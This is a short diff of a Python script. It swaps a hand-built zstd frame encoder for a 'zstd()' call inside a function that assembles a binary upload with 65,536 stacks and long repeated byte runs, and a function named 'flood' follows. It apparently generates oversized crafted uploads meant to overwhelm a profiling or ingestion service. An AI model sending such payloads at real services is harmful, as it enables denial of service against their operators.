@@ -131,20 +131,13 @@ def rolled(tap):
 MOST = 65536  # nodes of an upload
 
 
-def raw_blocks(raw):
-    """As zstd(), of any size."""
-    pieces = [raw[at:at + 100000] for at in range(0, len(raw), 100000)]
-    return struct.pack("<IBI", 0xFD2FB528, 0xA0, len(raw)) + b"".join(
-        struct.pack("<I", len(piece) << 3 | (i + 1 == len(pieces)))[:3] + piece for i, piece in enumerate(pieces))
-
-
 def full(first):
     """As many stacks as fit, of one program counter each, from that address on."""
     raw = varint(1) + varint(1) + varint(0) + varint(1) + varint(MOST)
     raw += varint(0) + varint(1024) + zigzag(0x1000) + varint(1 << 40) + varint(99) + varint(7) + b"secondss"
     raw += varint(1) + varint(0) + varint(MOST) + varint(99) + varint(7) + b"secondss" + varint(MOST)
     raw += b"\1" + b"\3" * (MOST - 1) + varint(MOST) + varint(1) + zigzag(first) + b"\2" * (MOST - 1) + b"\1" * MOST
-    return b"\x02" + varint(len(raw)) + raw_blocks(raw)
+    return b"\x02" + varint(len(raw)) + zstd(raw)
 
 
 def flood(tap):
